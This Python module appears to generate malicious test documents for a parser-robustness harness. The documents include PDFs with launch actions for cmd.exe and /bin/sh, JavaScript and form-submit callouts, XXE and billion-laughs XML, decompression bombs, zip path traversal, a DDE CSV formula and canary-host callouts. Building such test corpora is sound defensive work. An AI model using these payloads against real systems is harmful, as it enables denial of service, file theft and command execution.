"""Documents that loop, call out, or unfold."""

import io
import zipfile
import zlib

from .case import Case, zeros

GROUP = "document"


def cases(canary, samples):
    yield from pdfs(canary)
    yield from markup(canary)
    yield from offices(canary)
    yield from letters(canary)
    yield from plain()


def pdf(objects, root=1, trailer="", head="%PDF-1.7\n"):
    """A PDF of numbered objects, with an honest table."""
    out = bytearray(head.encode())
    places = {}
    for number, body in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n" % number + (body if isinstance(body, bytes) else body.encode()) + b"\nendobj\n"
    table = len(out)
    count = max(places) + 1
    out += f"xref\n0 {count}\n0000000000 65535 f \n".encode()
    for number in range(1, count):
        out += f"{places.get(number, 0):010} 00000 {'n' if number in places else 'f'} \n".encode()
    out += f"trailer\n<</Size {count}/Root {root} 0 R{trailer}>>\nstartxref\n{table}\n%%EOF\n".encode()
    return bytes(out)


def stream(data, more=""):
    return f"<</Length {len(data)}{more}>>\nstream\n".encode() + data + b"\nendstream"


def one_page(content=b"BT /F 12 Tf 20 20 Td (Rice) Tj ET", page="", catalog="", more=None, box="0 0 200 200"):
    return {
        1: f"<</Type/Catalog/Pages 2 0 R{catalog}>>",
        2: "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: f"<</Type/Page/Parent 2 0 R/MediaBox[{box}]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>"
        f"/XObject<</X 6 0 R>>>>{page}>>",
        4: content if content.startswith(b"<<") else stream(content),
        5: "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        **(more or {}),
    }


def pdfs(canary):
    def case(name, objects, **more):
        data = objects if isinstance(objects, bytes) else pdf(objects)
        return Case("pdf", name + ".pdf", data, "application/pdf", **more)

    tree = {1: "<</Type/Catalog/Pages 2 0 R>>"}
    yield case("tree-loop", tree | {2: "<</Type/Pages/Kids[2 0 R]/Count 1>>"})
    yield case("tree-loop-of-two", tree | {2: "<</Type/Pages/Kids[3 0 R]/Count 9>>", 3: "<</Type/Pages/Parent 2 0 R/Kids[2 0 R]/Count 9>>"})
    yield case("tree-deep", tree | {n: f"<</Type/Pages/Kids[{n + 1} 0 R]/Count 1>>" for n in range(2, 20_000)})
    page = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"
    yield case("billion-pages", tree | {2: "<</Type/Pages/Kids[3 0 R]/Count 1000000000>>", 3: page})
    yield case("negative-pages", tree | {2: "<</Type/Pages/Kids[3 0 R]/Count -5>>", 3: page})
    yield case("shared-page", tree | {2: "<</Type/Pages/Kids[" + "3 0 R " * 100_000 + "]/Count 100000>>", 3: page})
    yield case("no-pages", tree | {2: "<</Type/Pages/Kids[]/Count 0>>"})
    yield case("parent-loop", {**one_page(), 3: "<</Type/Page/Parent 3 0 R/Contents 4 0 R>>"})
    for name, box in (
        ("million", "0 0 1000000 1000000"), ("most", "0 0 1e38 1e38"), ("negative", "0 0 -100 -100"),
        ("nothing", "0 0 0 0"), ("far", "1e9 1e9 1000000100 1000000100"), ("thin", "0 0 1000000 0.001"), ("words", "(a) /b null true"),
    ):
        yield case("box-" + name, one_page(box=box))
    yield case("user-unit", one_page(page="/UserUnit 1000000"))
    bomb = zeros(300 << 20)
    yield case("deflate-bomb", one_page(stream(bomb, "/Filter/FlateDecode")))
    many = zlib.compress(zlib.compress(zlib.compress(zeros(200 << 20))))
    yield case("deflate-nested", one_page(stream(many, "/Filter[" + "/FlateDecode" * 4 + "]")), slow=True)
    yield case("many-filters", one_page(stream(b"x", "/Filter[" + "/ASCIIHexDecode" * 50_000 + "]")), slow=True)
    yield case("own-length", one_page(b"<</Length 4 0 R>>\nstream\nx\nendstream"))
    words = b"BT /F 12 Tf " + b"(Rice) Tj " * 1_000_000 + b"ET"
    yield case("million-words", one_page(stream(zlib.compress(words, 9), "/Filter/FlateDecode")), slow=True)
    yield case("deep-array", one_page(b"[" * 500_000))
    yield case("deep-dictionary", {**one_page(), 6: "<</A " * 200_000})
    yield case("deep-state", one_page(b"q " * 1_000_000))
    form = "/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>"
    yield case("form-loop", one_page(b"/X Do", more={6: stream(b"/X Do /X Do", form)}))
    glyphs = "<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/CharProcs<</a 6 0 R>>/Encoding<</Differences[97/a]>>/FirstChar 97/LastChar 97/Widths[9]/Resources<</Font<</F 5 0 R>>>>>>"
    yield case("font-loop", {**one_page(b"BT /F 1 Tf (aaaa) Tj ET"), 5: glyphs, 6: stream(b"BT /F 1 Tf (aaaa) Tj ET")})
    picture = "/Type/XObject/Subtype/Image/Width {0}/Height {0}/BitsPerComponent 8/ColorSpace/DeviceGray"
    yield case("huge-image", one_page(b"/X Do", more={6: stream(bomb, picture.format(100_000) + "/Filter/FlateDecode")}), slow=True)
    yield case("huge-jbig2", one_page(b"/X Do", more={6: stream(b"\0\0\0\0\x30\0\1\0\0\0\x13" + b"\x7f\xff\xff\xff" * 2 + bytes(11), picture.format(60_000) + "/Filter/JBIG2Decode")}))
    yield case("broken-jpx", one_page(b"/X Do", more={6: stream(b"\xff\x4f\xff\x51" + b"\xff" * 64, picture.format(60_000) + "/Filter/JPXDecode")}), slow=True)
    yield case("mask-loop", one_page(b"/X Do", more={6: stream(bytes(81), picture.format(9) + "/SMask 6 0 R")}))
    yield case("remote-image", one_page(b"/X Do", more={6: stream(b"", picture.format(9) + f"/F<</FS/URL/F({canary.http}.jpg)>>/FFilter/DCTDecode")}))
    yield case("file-image", one_page(b"/X Do", more={6: stream(b"", picture.format(9) + f"/F({canary.path})")}))
    yield case("file-content", one_page(stream(b"", f"/F<</Type/Filespec/F({canary.path})/UF({canary.path})>>")))
    for name, action in (
        ("script", f"<</S/JavaScript/JS(app.launchURL\\('{canary.http}'\\))>>"), ("launch", f"<</S/Launch/F({canary.path})>>"),
        ("command", "<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>/Unix(/bin/sh)>>"), ("address", f"<</S/URI/URI({canary.http})>>"),
        ("elsewhere", f"<</S/GoToR/F({canary.path})/D[0/Fit]>>"), ("import", f"<</S/ImportData/F({canary.path})>>"),
        ("submit", f"<</S/SubmitForm/F<</FS/URL/F({canary.http})>>>>"), ("next-loop", "<</S/JavaScript/JS()/Next 7 0 R>>"),
    ):
        yield case("action-" + name, one_page(catalog="/OpenAction 7 0 R/AA<</WC 7 0 R>>", page="/AA<</O 7 0 R>>", more={7: action}))
    xfa = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{canary.file}">]><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">&e;</xdp:xdp>'
    yield case("xfa", one_page(catalog="/AcroForm<</XFA 7 0 R/Fields[]>>/NeedsRendering true", more={7: stream(xfa.encode())}))
    yield case("xmp", one_page(catalog="/Metadata 7 0 R", more={7: stream(xfa.encode(), "/Type/Metadata/Subtype/XML")}))
    whole = pdf(one_page())
    place = whole.rindex(b"startxref")
    yield case("table-loop", whole.replace(b"/Root", b"/Prev %d/Root" % whole.index(b"xref\n")))
    yield case("table-wrong", whole[:place] + b"startxref\n99999999999999999999\n%%EOF")
    yield case("table-gone", whole[: whole.index(b"xref\n")])
    yield case("table-huge", whole.replace(b"xref\n0 ", b"xref\n0 2147483647"))
    yield case("header-alone", b"%PDF-1.7\n")
    yield case("one-line", b"%PDF-1.7 " + b"1 0 obj <<" * 400_000)
    yield case("encrypted-oddly", pdf(one_page(), trailer="/Encrypt<</Filter/Standard/V 5/R 99/O()/U()/P -1>>/ID[()()]"))
    entries = b"".join(b"%d 0 " % n for n in range(100, 5_000))
    yield case("object-stream-loop", {**one_page(), 7: stream(zlib.compress(entries), "/Type/ObjStm/N 100000000/First 9/Filter/FlateDecode/Extends 7 0 R")})


LAUGHS = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))


def prologs(canary):
    yield "laughs", f"<!DOCTYPE x [{LAUGHS}]>", "&a9;"
    yield "entity", f'<!DOCTYPE x [<!ENTITY e SYSTEM "{canary.file}">]>', "&e;"
    yield "remote", f'<!DOCTYPE x SYSTEM "{canary.http}.dtd">', ""
    yield "parameter", f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{canary.http}.dtd">%p;]>', "&q;"
    yield "quadratic", f'<!DOCTYPE x [<!ENTITY e "{"ha" * 50_000}">]>', "&e;" * 5_000


def markup(canary):
    for name, prolog, body in prologs(canary):
        yield Case("xml", name + ".xml", f"<?xml version='1.0'?>{prolog}<x>{body}</x>".encode(), "application/xml")
    yield Case("xml", "deep.xml", b"<a>" * 500_000, "application/xml")
    yield Case("xml", "wide.xml", b"<a " + b"".join(b"b%d='' " % n for n in range(200_000)) + b"/>", "application/xml")
    yield Case("xml", "include.xml", f'<x xmlns:i="http://www.w3.org/2001/XInclude"><i:include href="{canary.file}" parse="text"/></x>'.encode(), "application/xml")
    yield Case("xml", "sheet.xml", f'<?xml-stylesheet type="text/xsl" href="{canary.http}.xsl"?><x/>'.encode(), "application/xml")
    yield Case("xml", "deep.html", b"<div>" * 500_000 + b"Rice", "text/html")
    yield Case("xml", "comment.html", b"<!doctype html><!--" * 200_000, "text/html")
    yield Case("xml", "entities.html", b"<html>" + b"&#x110000;&#0;&#xD800;&amp" * 100_000, "text/html")
    yield Case("xml", "calls.html", f'<html><base href="{canary.http}"><img src="{canary.http}"><iframe src="{canary.file}"></iframe>Rice</html>'.encode(), "text/html")
    yield Case("xml", "no-end.html", b"<html><script>" + b"x<" * 1_000_000, "text/html")
    yield Case("xml", "deep.json", b"[" * 1_000_000, "application/json")


def archive(parts, stored=("mimetype",)):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        for name, data in parts.items():
            kind = zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED
            with file.open(_part(name, kind), "w") as part:
                for piece in data if isinstance(data, list) else [data]:
                    part.write(piece.encode() if isinstance(piece, str) else piece)
    return out.getvalue()


def _part(name, kind):
    part = zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0))
    part.compress_type = kind
    return part


OFFICE = {
    "docx": ("word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>{}</w:t></w:r></w:p></w:body></w:document>'),
    "xlsx": ("xl/worksheets/sheet1.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>{}</t></is></c></row></sheetData></worksheet>'),
    "pptx": ("ppt/slides/slide1.xml", "application/vnd.openxmlformats-officedocument.presentationml.presentation", '<p:sld xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><p:cSld><p:spTree><a:t>{}</a:t></p:spTree></p:cSld></p:sld>'),
    "odt": ("content.xml", "application/vnd.oasis.opendocument.text", '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:text><text:p>{}</text:p></office:text></office:body></office:document-content>'),
    "epub": ("OEBPS/a.xhtml", "application/epub+zip", "<html xmlns='http://www.w3.org/1999/xhtml'><body><p>{}</p></body></html>"),
}


def office(kind, body, prolog="", more=None):
    place, declared, frame = OFFICE[kind]
    main = place if kind in ("odt", "epub") else {"docx": place, "xlsx": "xl/workbook.xml", "pptx": "ppt/presentation.xml"}[kind]
    text = frame.format(body) if isinstance(body, str) else None
    parts = {}
    if kind in ("odt", "epub"):
        parts["mimetype"] = declared
    if kind == "epub":
        parts["META-INF/container.xml"] = '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="OEBPS/a.opf"/></rootfiles></container>'
        parts["OEBPS/a.opf"] = '<package xmlns="http://www.idpf.org/2007/opf"><manifest><item id="a" href="a.xhtml" media-type="application/xhtml+xml"/></manifest><spine><itemref idref="a"/></spine></package>'
    if kind in ("docx", "xlsx", "pptx"):
        word = {"docx": "wordprocessingml.document.main", "xlsx": "spreadsheetml.sheet.main", "pptx": "presentationml.presentation.main"}[kind]
        parts["[Content_Types].xml"] = f'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/{main}" ContentType="application/vnd.openxmlformats-officedocument.{word}+xml"/></Types>'
        parts["_rels/.rels"] = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="{main}"/></Relationships>'
        if kind == "xlsx":
            parts["xl/workbook.xml"] = '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="a" sheetId="1" r:id="r1"/></sheets></workbook>'
            parts["xl/_rels/workbook.xml.rels"] = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
        if kind == "pptx":
            parts["ppt/presentation.xml"] = '<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"/>'
    parts[place] = [prolog, text] if text is not None else [prolog + frame.split("{}")[0], *body, frame.split("{}")[1]]
    parts.update(more or {})
    return archive(parts)


def offices(canary):
    def case(kind, name, data, **more):
        return Case("office", f"{name}.{kind}", data, OFFICE[kind][1], **more)

    block = b" " * (1 << 20)
    for kind in OFFICE:
        for name, prolog, body in prologs(canary):
            yield case(kind, name, office(kind, body, prolog))
        yield case(kind, "bomb", office(kind, [block] * 64))
        yield case(kind, "deep", office(kind, "<a>" * 200_000))
    yield case("docx", "many-parts", office("docx", "Rice", more={f"word/media/{n}.xml": "" for n in range(12_000)}))
    links = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="{canary.http}.dotm" TargetMode="External"/><Relationship Id="r8" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="{canary.file}" TargetMode="External"/></Relationships>'
    yield case("docx", "calls", office("docx", "Rice", more={"word/_rels/document.xml.rels": links, "word/_rels/settings.xml.rels": links}))
    yield case("docx", "climbs", office("docx", "Rice", more={"../../../../tmp/millrace-climbed": "x", canary.path: "overwritten"}))
    field = f'=WEBSERVICE("{canary.http}")'
    yield case("xlsx", "formula", office("xlsx", field))
    strings = '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1000000000" uniqueCount="1000000000"><si><t>a</t></si></sst>'
    yield case("xlsx", "many-strings", office("xlsx", "Rice", more={"xl/sharedStrings.xml": strings}))
    rows = '</t></is></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row><row><c><is><t>'
    yield case("xlsx", "far-cell", office("xlsx", rows))
    repeated = '</text:p></office:text><table:table xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"><table:table-row table:number-rows-repeated="1000000000"><table:table-cell table:number-columns-repeated="1000000000"><text:p>x</text:p></table:table-cell></table:table-row></table:table><office:text><text:p><text:s text:c="2000000000"/>'
    yield case("odt", "repeated", office("odt", repeated))
    spine = '<package xmlns="http://www.idpf.org/2007/opf"><manifest><item id="a" href="a.xhtml" media-type="application/xhtml+xml"/><item id="b" href="../../../../../..' + canary.path + '" media-type="application/xhtml+xml"/></manifest><spine>' + '<itemref idref="a"/>' * 100_000 + '<itemref idref="b"/></spine></package>'
    yield case("epub", "spine", office("epub", "Rice", more={"OEBPS/a.opf": spine}))


def letters(canary):
    nested = "".join(f"Content-Type: multipart/mixed; boundary=b{n}\n\n--b{n}\n" for n in range(5_000))
    yield Case("mail", "nested.eml", ("From: a@example.org\nSubject: x\nMIME-Version: 1.0\n" + nested).encode(), "message/rfc822")
    parts = "--b\nContent-Type: text/plain\n\nRice\n" * 50_000
    yield Case("mail", "many-parts.eml", f"From: a@example.org\nSubject: x\nContent-Type: multipart/mixed; boundary=b\n\n{parts}--b--".encode(), "message/rfc822")
    outside = f'Content-Type: message/external-body; access-type=URL; URL="{canary.http}"\n\nContent-Type: text/plain\n\n'
    yield Case("mail", "outside.eml", f"From: a@example.org\nSubject: x\n{outside}".encode(), "message/rfc822")
    yield Case("mail", "long-header.eml", b"From: a@example.org\nSubject: " + b"=?utf-8?B?UmljZQ==?= " * 100_000 + b"\n\nRice", "message/rfc822")
    yield Case("mail", "messages.eml", b"From: a@example.org\nSubject: x\nContent-Type: message/rfc822\n\n" * 20_000, "message/rfc822")
    yield Case("mail", "calls.eml", f'From: a@example.org\nSubject: x\nContent-Type: text/html\n\n<img src="{canary.http}">'.encode(), "message/rfc822")
    yield Case("mail", "deep.rtf", b"{\\rtf1 " + b"{" * 500_000, "application/rtf")
    yield Case("mail", "binary.rtf", b"{\\rtf1 \\bin2147483647 x}", "application/rtf")
    yield Case("mail", "object.rtf", b"{\\rtf1 {\\object\\objocx{\\*\\objdata " + b"d0cf11e0" * 50_000 + b"}}}", "application/rtf")
    yield Case("mail", "calls.rtf", f'{{\\rtf1 {{\\field{{\\*\\fldinst INCLUDEPICTURE "{canary.http}"}}}}{{\\*\\template {canary.http}}}}}'.encode(), "application/rtf")
    yield Case("mail", "numbers.rtf", b"{\\rtf1 \\u-99999999999999999999 \\'zz \\uc2000000000 x}", "application/rtf")


def plain():
    def case(name, data, declared="text/plain"):
        return Case("text", name, data, declared)

    yield case("one-line.txt", b"x" * 6_000_000)
    yield case("no-text.txt", bytes(500_000))
    yield case("form-feeds.txt", b"\f" * 1_000_000)
    yield case("form-feeds-and-words.txt", b"a\f" * 500_000)
    yield case("marks.txt", "e\u0301".encode() + "\u0301".encode() * 1_000_000)
    yield case("bidi.txt", "\u202eRice\u2066\u200f".encode() * 20_000)
    yield case("surrogates.txt", b"\xff\xfe" + b"\x00\xd8" * 200_000)
    yield case("overlong.txt", b"\xc0\xae\xf8\x88\x80\x80\x80" * 50_000)
    yield case("wide.csv", b"a," * 2_000_000, "text/csv")
    yield case("formula.csv", b"=cmd|'/c calc'!A1,@SUM(1),+1\n", "text/csv")
    yield case("quotes.csv", b'"' * 1_000_001, "text/csv")
    yield case("controls.txt", bytes(range(1, 32)) * 20_000)
    yield case("eicar.com", rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*")
    yield case("sjis-halves.txt", b"\x83" * 400_001)
